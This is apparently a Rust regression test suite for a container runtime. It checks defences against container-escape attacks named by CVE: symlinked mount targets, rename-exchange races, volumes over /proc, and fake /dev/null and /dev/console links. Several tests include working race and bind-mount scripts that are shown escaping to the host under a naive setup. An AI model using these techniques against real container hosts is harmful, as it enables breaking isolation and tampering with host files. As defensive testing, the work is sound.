//! Ways out of a container while its root file system is put together: links where the runtime expects directories.
//!
//! The attacker owns the image and the volumes. Every test shows that its attack works on a naive caller, or by a
//! control that lacks the protection.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use rustix::fs::{CWD, RenameFlags, inotify, renameat_with};
use rustix::mount::{MountFlags, UnmountFlags, mount, unmount};
use serde_json::{Value, json};
use stockade_tests::{Bundle, Cmd, Output, Pty, Scratch};

fn run(scratch: &Scratch, name: &str, bundle: &Bundle) -> Output {
    let path = bundle.path().to_str().expect("a UTF-8 path");
    scratch.oci(&["run", "--bundle", path, &scratch.id(name)]).run()
}

fn bind(source: &Path, destination: &str) -> Value {
    json!({"type": "bind", "source": source, "destination": destination, "options": ["rbind"]})
}

fn directory(path: PathBuf) -> PathBuf {
    fs::create_dir_all(&path).expect("make a directory");
    path
}

fn directories(parent: &Path, names: &[&str]) {
    names.iter().for_each(|name| drop(directory(parent.join(name))));
}

/// The runtime must neither list nor make anything in a directory of the host's.
#[track_caller]
fn assert_empty(dir: &Path) {
    let names: Vec<_> = fs::read_dir(dir).expect("list a directory").map(|entry| entry.unwrap().file_name()).collect();
    assert!(names.is_empty(), "the runtime wrote to the host: {names:?}");
}

/// A link in the image at the target of a mount: its missing parts would be made on the host.
#[test]
fn mount_targets_stay_inside_the_root() {
    let scratch = Scratch::new();
    let host = directory(scratch.path("host"));
    for (name, target) in [("absolute", host.clone()), ("relative", Path::new("../../../../../../..").join(&host))] {
        let bundle = scratch.bundle(&["sh", "-c", "echo ran"]);
        symlink(&target, bundle.rootfs().join("link")).unwrap();
        let volume = directory(scratch.path("volume"));
        let bundle = bundle.mount(bind(&volume, "/link/sub/deep"));
        run(&scratch, name, &bundle);
        assert_empty(&host);
        // What a naive caller would do.
        fs::create_dir_all(bundle.rootfs().join("link/naive")).ok();
        if name == "absolute" {
            fs::remove_dir(host.join("naive")).expect("the attack reaches the host where nothing hinders it");
        }
    }
}

/// CVE-2021-30465: a volume shared with a running container, in which a directory and a link to the host change
/// places while the runtime mounts below them.
#[test]
fn cve_2021_30465_exchanging_a_target_with_a_link() {
    let scratch = Scratch::new();
    let (host, volume) = (directory(scratch.path("host")), directory(scratch.path("volume")));
    directory(volume.join("dir"));
    symlink(&host, volume.join("link")).unwrap();
    let (stop, exchanges) = (AtomicBool::new(false), || {
        renameat_with(CWD, volume.join("dir"), CWD, volume.join("link"), RenameFlags::EXCHANGE).unwrap();
    });
    let mut escaped_naively = false;
    thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                exchanges();
            }
        });
        for round in 0..25 {
            let bundle = scratch
                .bundle(&["true"])
                .mount(bind(&volume, "/volume"))
                .mount(json!({"type": "tmpfs", "source": "tmpfs", "destination": format!("/volume/dir/{round}/deep")}));
            run(&scratch, &format!("round-{round}"), &bundle);
        }
        let made = fs::read_dir(&host).unwrap().count();
        // The same race against mkdir -p, until it loses.
        for round in 0..100_000 {
            fs::create_dir_all(volume.join(format!("dir/naive-{round}"))).ok();
            escaped_naively = host.join(format!("naive-{round}")).exists();
            if escaped_naively {
                break;
            }
        }
        stop.store(true, Ordering::Relaxed);
        assert_eq!(made, 0, "the runtime made directories on the host");
    });
    assert!(escaped_naively, "the race works against a naive caller");
}

/// CVE-2019-16884 and CVE-2025-52881: a volume over /proc, or over a part of it, would take the writes by which the
/// runtime sets labels and sysctls.
#[test]
fn cve_2019_16884_volumes_over_proc_are_refused() {
    let scratch = Scratch::new();
    let fake = directory(scratch.path("fake"));
    for file in ["self/attr/exec", "sys/kernel/domainname", "kernel/domainname", "attr/exec", "exec"] {
        directory(fake.join(file).parent().unwrap().to_owned());
        fs::write(fake.join(file), "untouched").unwrap();
    }
    for (name, destination) in
        [("proc", "/proc"), ("self", "/proc/self"), ("sys", "/proc/sys"), ("attr", "/proc/1/attr")]
    {
        let bundle = scratch.bundle(&["cat", "/proc/sys/kernel/domainname"]).mount(bind(&fake, destination));
        let bundle = bundle.set("/linux/sysctl", json!({"kernel.domainname": "written"}));
        let output = run(&scratch, name, &bundle);
        assert!(output.code != 0 || output.out() == "written", "{destination}: {output}");
        for file in ["sys/kernel/domainname", "kernel/domainname", "self/attr/exec", "attr/exec"] {
            assert_eq!(fs::read_to_string(fake.join(file)).unwrap(), "untouched", "{destination}: {file}");
        }
        if destination == "/proc" {
            assert!(output.code != 0, "a volume over all of /proc must be refused\n{output}");
        }
    }
    let plain = scratch.bundle(&["cat", "/proc/sys/kernel/domainname"]);
    let plain = plain.set("/linux/sysctl", json!({"kernel.domainname": "written"}));
    assert_eq!(run(&scratch, "control", &plain).out(), "written");
}

/// A volume that begins with what the image has at its place, where the image has the kernel's files: nothing of them
/// may be read, as root, into a volume. Nor may another spelling of /proc get a volume there.
#[test]
fn volumes_are_not_filled_from_the_kernels_file_systems() {
    let scratch = Scratch::new();
    let fill = |name: &str, destination: &str| {
        let volume = directory(scratch.path(name));
        let bundle = scratch.bundle(&["true"]);
        symlink("/proc", bundle.rootfs().join("link")).unwrap();
        directory(bundle.rootfs().join("own/dir"));
        let mount = json!({"type": "bind", "source": &volume, "destination": destination,
            "options": ["rbind", "tmpcopyup"]});
        let output = run(&scratch, name, &bundle.mount(mount));
        (volume, output)
    };
    for (name, destination) in
        [("whole", "/proc"), ("bare", "proc"), ("dots", "/own/../proc"), ("link", "/link"), ("part", "/link/sys")]
    {
        let (volume, output) = fill(name, destination);
        assert!(output.code != 0, "a volume at {destination} must be refused\n{output}");
        assert_empty(&volume);
    }
    assert_empty(&fill("sys", "/sys/class").0);
    let (volume, output) = fill("own", "/own");
    assert!(output.code == 0 && volume.join("dir").is_dir(), "an ordinary directory is copied\n{output}");
}

/// CVE-2019-19921 and CVE-2023-27561: /proc is a link in the image, or leads through a volume's link; what is masked
/// at /proc would be masked elsewhere, while the real files stay in the open.
#[test]
fn cve_2023_27561_a_link_at_proc_does_not_unmask() {
    let scratch = Scratch::new();
    let script = r#"
        for d in /proc /elsewhere /elsewhere/proc; do (echo x > $d/sys/kernel/hostname) 2>/dev/null && echo out; done
        true
    "#;
    for (name, target) in [("inside", "/elsewhere"), ("dots", "../elsewhere"), ("self", "proc")] {
        let bundle = scratch.bundle(&["sh", "-c", script]);
        let proc = bundle.rootfs().join("proc");
        fs::remove_dir(&proc).unwrap();
        directory(bundle.rootfs().join("elsewhere/proc"));
        symlink(target, &proc).unwrap();
        let output = run(&scratch, name, &bundle);
        assert!(!output.stdout.contains("out"), "{target}: {output}");
    }
    let bare = scratch.bundle(&["sh", "-c", script]).set("/linux/readonlyPaths", json!([]));
    assert!(run(&scratch, "control", &bare).stdout.contains("out"));
}

/// The image's own /dev as a volume, which the attacker has filled.
fn false_dev(bundle: Bundle, fill: impl FnOnce(&Path)) -> Bundle {
    let dev = directory(bundle.path().join("dev"));
    directories(&dev, &["pts", "shm", "mqueue"]);
    fill(&dev);
    bundle.edit(|config| {
        let mounts = config["mounts"].as_array_mut().unwrap();
        let at = mounts.iter().position(|mount| mount["destination"] == "/dev").unwrap();
        mounts[at] = bind(&dev, "/dev");
    })
}

/// What `script` prints in the root with its false /dev: it does by path what a runtime would do by descriptor.
#[track_caller]
fn naively(bundle: &Bundle, script: &str) -> String {
    let enter = r#"mount --rbind "$0/dev" "$0/rootfs/dev" && exec chroot "$0/rootfs" /bin/sh -c "$1""#;
    Cmd::new("unshare").args(["--mount", "sh", "-c", enter]).arg(bundle.path()).arg(script).ok().out().to_owned()
}

/// CVE-2025-31133: what is masked is covered by /dev/null, which the attacker has replaced by a link: the link's
/// target would appear there instead, and writable.
#[test]
fn cve_2025_31133_masks_do_not_follow_a_false_dev_null() {
    let scratch = Scratch::new();
    let script = "cat /covered; echo changed > /covered; true";
    let bundle = |masked: &[&str]| {
        let bundle = scratch.bundle(&["sh", "-c", script]).set("/linux/maskedPaths", json!(masked));
        fs::write(bundle.rootfs().join("target"), "exposed").unwrap();
        fs::write(bundle.rootfs().join("covered"), "secret").unwrap();
        false_dev(bundle, |dev| symlink("/target", dev.join("null")).unwrap())
    };
    let target = |bundle: &Bundle| fs::read_to_string(bundle.rootfs().join("target")).unwrap();
    let attacked = bundle(&["/covered"]);
    let output = run(&scratch, "attack", &attacked);
    assert!(!output.stdout.contains("exposed") && !output.stdout.contains("secret"), "{output}");
    assert_eq!(target(&attacked), "exposed");
    assert!(run(&scratch, "unmasked", &bundle(&[])).stdout.contains("secret"));

    let seen = naively(&attacked, &format!("mount -o bind /dev/null /covered; {script}"));
    assert_eq!((seen.as_str(), target(&attacked).as_str()), ("exposed", "changed\n"), "a naive mask follows the link");
}

/// CVE-2025-52565: the container's terminal is bound to /dev/console, which the attacker has replaced by a link: the
/// terminal would cover another file, /proc/sys/kernel/core_pattern for one.
#[test]
fn cve_2025_52565_the_console_does_not_follow_a_link() {
    let scratch = Scratch::new();
    let bundle = |link: bool| {
        let bundle = scratch.bundle(&["sh", "-c", "echo begin; cat /proc/self/mountinfo; echo end"]);
        fs::write(bundle.rootfs().join("target"), "").unwrap();
        let bundle = false_dev(bundle, |dev| {
            for (node, minor) in [("null", 3), ("zero", 5), ("full", 7), ("random", 8), ("urandom", 9)] {
                Cmd::new("mknod").arg(dev.join(node)).args(["c", "1", &minor.to_string()]).ok();
            }
            if link {
                symlink("/target", dev.join("console")).unwrap();
            }
        });
        bundle.set("/process/terminal", json!(true))
    };
    let mounts = |name: &str, bundle: &Bundle| {
        let path = bundle.path().to_str().unwrap();
        Pty::spawn(scratch.oci(&["run", "--bundle", path, &scratch.id(name)])).wait().1
    };
    let attacked = bundle(true);
    let seen = mounts("attack", &attacked);
    assert!(!seen.contains(" /target "), "{seen}");
    let seen = mounts("plain", &bundle(false));
    assert!(seen.contains(" /dev/console "), "{seen}");

    let naive = "echo terminal > /tty; mount -o bind /tty /dev/console; cat /target";
    assert_eq!(naively(&attacked, naive), "terminal", "a naive bind mount follows the link");
}

/// A tmpfs at `dir` whose mounts go to all that share it.
struct SharedMount(PathBuf);

impl SharedMount {
    fn new(dir: PathBuf) -> Self {
        Cmd::new("mount").args(["-t", "tmpfs", "tmpfs"]).arg(directory(dir.clone())).ok();
        let shared = Self(dir);
        Cmd::new("mount").arg("--make-rshared").arg(&shared.0).ok();
        shared
    }
}

impl Drop for SharedMount {
    fn drop(&mut self) {
        let _ = unmount(&self.0, UnmountFlags::DETACH);
    }
}

/// CVE-2025-52881: two containers share a volume and its mounts. One makes the other's mounts land on /proc, so that
/// the runtime's writes there go to a file of the attacker's, and what they should set stays as it was.
#[test]
fn cve_2025_52881_no_racing_mount_takes_the_runtimes_writes() {
    let scratch = Scratch::new();
    let fake = directory(scratch.path("fake"));
    fs::write(fake.join("domainname"), "untouched").unwrap();
    let shared = SharedMount::new(scratch.path("volume"));
    let volume = shared.0.clone();
    directories(&volume, &["dir/kernel", "stage/proc/sys/kernel"]);
    symlink("/proc/sys", volume.join("link")).unwrap();
    let start = |name: &str| {
        let mut share = bind(&volume, "/volume");
        share["options"] = json!(["rbind", "rshared"]);
        let bundle = scratch.bundle(&["cat", "/proc/sys/kernel/domainname"]).mount(share);
        symlink("/volume/stage/proc/sys", bundle.rootfs().join("alias")).unwrap();
        let bundle = bundle.mount(bind(&fake, "/volume/dir/kernel")).mount(bind(&fake, "/alias/kernel"));
        run(&scratch, name, &bundle.set("/linux/sysctl", json!({"kernel.domainname": "written"})))
    };
    assert_eq!(start("quiet").out(), "written", "without a race it starts");
    let stop = AtomicBool::new(false);
    let mut taken_naively = false;
    thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                renameat_with(CWD, volume.join("dir"), CWD, volume.join("link"), RenameFlags::EXCHANGE).unwrap();
            }
        });
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                // A procfs that comes and goes in every container that shares the volume.
                let place = volume.join("stage/proc");
                mount("proc", &place, "proc", MountFlags::empty(), None).unwrap();
                unmount(&place, UnmountFlags::DETACH).unwrap();
                thread::sleep(Duration::from_millis(1));
            }
        });
        let outputs: Vec<Output> = (0..15).map(|round| start(&format!("round-{round}"))).collect();
        // The same by path, until the mount lands where the write goes.
        let naive = r#"
            for try in $(seq 500); do
                mount --bind "$1" "$0/dir/kernel" 2>/dev/null && echo written > /proc/sys/kernel/domainname
                grep -q written "$1/domainname" && exit 0
                umount /proc/sys/kernel "$0/dir/kernel" 2>/dev/null
            done
            exit 1
        "#;
        let script = ["--mount", "--uts", "sh", "-c", naive];
        taken_naively = Cmd::new("unshare").args(script).arg(&volume).arg(&fake).run().code == 0;
        stop.store(true, Ordering::Relaxed);
        for output in outputs {
            assert!(output.code != 0 || output.out() == "written", "the write went elsewhere\n{output}");
        }
    });
    assert!(taken_naively, "the race works against a naive caller");
}

/// A container in a user namespace of its own, with the host's root as its root.
fn in_user_namespace(bundle: Bundle) -> Bundle {
    bundle.edit(|config| {
        config["linux"]["namespaces"].as_array_mut().unwrap().push(json!({"type": "user"}));
        for key in ["uidMappings", "gidMappings"] {
            config["linux"][key] = json!([{"containerID": 0, "hostID": 0, "size": 1000}]);
        }
    })
}

/// The runtime's own descriptors of a container's mounts show what lies below a mask. The image's working directory
/// must not lead there.
#[test]
fn no_descriptor_is_a_way_around_a_mask() {
    let scratch = Scratch::new();
    let volume = directory(scratch.path("volume"));
    fs::write(volume.join("hidden"), "masked").unwrap();
    let run_in = |cwd: &str, masked: &[&str]| {
        let bundle = scratch.bundle(&["cat", "hidden"]).set("/process/cwd", json!(cwd));
        let bundle = bundle.set("/linux/maskedPaths", json!(masked)).mount(bind(&volume, "/volume"));
        run(&scratch, "masked", &in_user_namespace(bundle)).stdout
    };
    for fd in 3..30 {
        assert_eq!(run_in(&format!("/proc/self/fd/{fd}"), &["/volume"]), "", "by descriptor {fd}");
    }
    assert_eq!(run_in("/volume", &["/volume"]), "");
    assert_eq!(run_in("/volume", &[]), "masked");
}

/// What an image has where a device is to be bound is covered without being opened: it may be a device itself, and act.
#[test]
fn an_images_devices_are_not_opened() {
    let scratch = Scratch::new();
    let bundle = in_user_namespace(scratch.bundle(&["sh", "-c", "echo x >/dev/zero && echo $?"])).edit(|config| {
        let mounts = config["mounts"].as_array_mut().unwrap();
        mounts.retain(|mount| !mount["destination"].as_str().unwrap().starts_with("/dev"));
    });
    let zero = directory(bundle.rootfs().join("dev")).join("zero");
    fs::write(&zero, "the image's").unwrap();
    let watch = inotify::init(inotify::CreateFlags::NONBLOCK | inotify::CreateFlags::CLOEXEC).unwrap();
    inotify::add_watch(&watch, &zero, inotify::WatchFlags::OPEN).unwrap();
    assert_eq!(run(&scratch, "devices", &bundle).out(), "0");
    let mut event = [0; 256];
    assert_eq!(rustix::io::read(&watch, &mut event[..]).unwrap_err(), rustix::io::Errno::AGAIN);
    fs::read(&zero).unwrap();
    assert!(rustix::io::read(&watch, &mut event[..]).unwrap() > 0, "an opened file is noticed");
}
